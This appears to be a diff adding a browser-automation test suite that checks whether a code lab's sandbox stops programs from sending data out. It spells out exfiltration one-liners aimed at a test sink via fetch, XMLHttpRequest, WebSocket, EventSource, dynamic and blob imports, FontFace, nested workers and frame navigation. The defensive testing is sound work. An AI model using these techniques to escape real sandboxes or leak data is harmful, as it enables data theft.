@@ -1,0 +1,121 @@
+/** Programs that try to send something out: the sink must not hear a thing. */
+import { expect, expectNextRunPasses, test } from "./support/attack-test";
+import { gradeInPage, playInPage, entryProgram } from "./support/lab";
+import { findSandboxFrame } from "./support/sandbox-frame";
+import type { Sink } from "./support/sink";
+import { runPlain } from "./support/weak-runs";
+
+/** Each way tries to reach the sink and swallows whatever stops it. `attempt` is defined by the program. */
+const WAYS: Record<string, (sink: Sink) => Record<string, string>> = {
+  "30: fetch, XMLHttpRequest, WebSocket, EventSource": ({ url, host }) => ({
+    "fetch cors": `await fetch("${url}/a?d=secret");`,
+    "fetch no-cors": `await fetch("${url}/b?d=secret", { mode: "no-cors" });`,
+    "fetch keepalive": `await fetch("${url}/c", { method: "POST", body: "secret", keepalive: true });`,
+    XMLHttpRequest: `const x = new XMLHttpRequest(); x.open("GET", "${url}/d?d=secret", false); x.send();`,
+    WebSocket: `new WebSocket("ws://${host}/e?d=secret"); await pause(200);`,
+    EventSource: `const e = new EventSource("${url}/events?d=secret"); await pause(200); e.close();`,
+  }),
+  "31: importScripts and import of http, data and blob": ({ url }) => ({
+    importScripts: `importScripts("${url}/f?d=secret");`,
+    "import http": `await import("${url}/g?d=secret");`,
+    "import data": `await import("data:text/javascript,await fetch('${url}/h')");`,
+    "import blob": `await import(URL.createObjectURL(new Blob(["await fetch('${url}/i')"], { type: "text/javascript" })));`,
+    "import http from blob": `await import(URL.createObjectURL(new Blob(["import '${url}/j'"], { type: "text/javascript" })));`,
+  }),
+  "32: FontFace and a nested worker": ({ url }) => ({
+    FontFace: `const f = new FontFace("x", "url(${url}/k?d=secret)"); await f.load();`,
+    "nested worker": `new Worker(URL.createObjectURL(new Blob(["fetch('${url}/l')"]))); await pause(400);`,
+  }),
+};
+
+/** Ways that even an unprotected classic blob worker lacks, so that no control can fire. */
+const NEVER_IN_A_WORKER = new Set(["import data"]);
+
+const PRELUDE = `
+  const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
+  const attempt = async (name, way) => { try { await way(); } catch (error) { self.failed = name + error; } };`;
+
+function program(ways: Record<string, string>): string {
+  const attempts = Object.entries(ways).map(
+    ([name, code]) => `await attempt(${JSON.stringify(name)}, async () => { ${code} });`,
+  );
+  return `// @ts-nocheck\n${PRELUDE}\n${attempts.join("\n")}\nawait pause(300);`;
+}
+
+for (const [title, waysTo] of Object.entries(WAYS)) {
+  test(title, async ({ lab, weak, sink }) => {
+    const ways = waysTo(sink);
+    for (const [name, code] of Object.entries(ways)) {
+      if (NEVER_IN_A_WORKER.has(name)) continue;
+      sink.clear();
+      await runPlain(weak, program({ [name]: code }), 1_200);
+      expect(sink.hits(), `${name} reaches the sink where nothing stops it`).not.toEqual([]);
+    }
+
+    sink.clear();
+    const played = await playInPage(lab, `${program(ways)}\nprint("tried");`);
+    expect(played.stdout).toContain("tried");
+    // The same from a function that is graded.
+    const body = `(async () => { ${program(ways)} })(); return [0, 0];`;
+    expect((await gradeInPage(lab, entryProgram(body))).status).not.toBe("pass");
+
+    // The policy must hold by itself too, where no global has been taken away: in the frame, and in a
+    // fresh worker of the frame.
+    const frame = await findSandboxFrame(lab);
+    await frame.evaluate(
+      async ([text, wait]) => {
+        const inFrame = new Function(`return (async () => { ${text} })()`);
+        await Promise.race([inFrame(), new Promise((resolve) => setTimeout(resolve, wait))]);
+        const worker = new Worker(
+          URL.createObjectURL(new Blob([`(async () => { ${text} })().then(() => postMessage(1))`])),
+        );
+        await new Promise((resolve) => {
+          worker.onmessage = resolve;
+          setTimeout(resolve, wait);
+        });
+        worker.terminate();
+      },
+      [program(ways), 5_000] as const,
+    );
+    expect(sink.hits()).toEqual([]);
+  });
+}
+
+test("34: the frame navigates itself away", async ({ lab, weak, sink }) => {
+  const navigate = (url: string) => `location.href = "${url}/page?d=secret"`;
+  await weak.evaluate(
+    async ([code]) => {
+      const frame = document.createElement("iframe");
+      frame.setAttribute("sandbox", "allow-scripts");
+      frame.srcdoc = `<script>${code}</script>`;
+      document.body.append(frame);
+      await new Promise((resolve) => setTimeout(resolve, 1_000));
+    },
+    [navigate(sink.url)] as const,
+  );
+  expect(sink.hits()).not.toEqual([]);
+
+  sink.clear();
+  const leaks: string[] = [];
+  const listen = (request: { url(): string }) => {
+    if (request.url().includes("secret")) leaks.push(request.url());
+  };
+  lab.on("requestfinished", listen);
+  const frame = await findSandboxFrame(lab);
+  await frame.evaluate((code) => new Function(code)(), navigate(sink.url)).catch(() => {});
+  await lab.waitForTimeout(800);
+  // Also to a page of the same site, whose host would log the address.
+  await frame
+    .evaluate((site) => {
+      location.href = `${site}?d=secret`;
+    }, new URL("index.html", lab.url()).href)
+    .catch(() => {});
+  await lab.waitForTimeout(800);
+  lab.off("requestfinished", listen);
+  expect(sink.hits()).toEqual([]);
+  expect(leaks).toEqual([]);
+  // That frame held the spare; a run that finds it gone must still end well.
+  await lab.reload();
+  await lab.waitForFunction(() => window.__lab !== undefined);
+  await expectNextRunPasses(lab);
+});
